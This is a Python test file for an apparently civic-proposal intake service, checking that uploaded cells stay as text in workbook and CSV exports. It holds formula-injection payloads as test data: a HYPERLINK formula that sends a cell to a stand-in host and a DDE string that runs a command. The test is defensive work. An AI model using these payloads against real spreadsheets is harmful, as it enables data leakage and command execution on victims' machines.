"""Cells from uploaded data come back as text in every workbook and export, never as live formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from tests.conftest import formulas
from tests.service.conftest import Service
from tests.service.test_batches_api import upload, wait_done

LEAK = '=HYPERLINK("http://example.invalid/?d="&A2,"点此")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+SUM(1,2)"


def test_batch_workbook_and_training_export_keep_formulas_as_text(service: Service, tmp_path: Path) -> None:
    source = tmp_path / "intake.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["编号", "提案标题", "提案内容"])
        writer.writerow([DDE, LEAK, "关于加强老旧小区加装电梯的建议：建议市住建局统筹资金，简化审批流程。"])
        writer.writerow(["2026-002", PLUS, "关于完善社区养老服务的建议：建议民政部门增加日间照料中心。"])
    key = service.keys["screener"]
    created = upload(service.client, key, source)
    assert created.status_code == 202, created.text
    state = wait_done(service.client, key, created.json()["id"])
    assert state["status"] == "done" and state["done_rows"] == 2, state
    result = service.client.get(f"/v1/batches/{state['id']}/result", headers={"X-API-Key": key})
    assert result.status_code == 200
    assert formulas(result.content) == []
    rows = list(load_workbook(io.BytesIO(result.content))["交办结果"].iter_rows(min_row=2, values_only=True))
    assert (rows[0][0], rows[0][1], rows[1][1]) == (DDE, LEAK, PLUS)  # the text as the office wrote it

    for item in service.client.get("/v1/review?limit=100", headers=service.headers("reviewer")).json()["items"]:
        decision = {"action": "correct", "lead_department": "市住房和城乡建设局", "topic": "城乡建设"}
        answer = service.client.post(f"/v1/review/{item['id']}", json=decision, headers=service.headers("reviewer"))
        assert answer.status_code == 200, answer.text
    export = service.client.get("/v1/export/training-data", headers=service.headers("analyst"))
    assert export.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(export.text.lstrip("\ufeff"))) for c in row]
    assert "'" + LEAK in cells and "'" + DDE in cells and "'" + PLUS in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
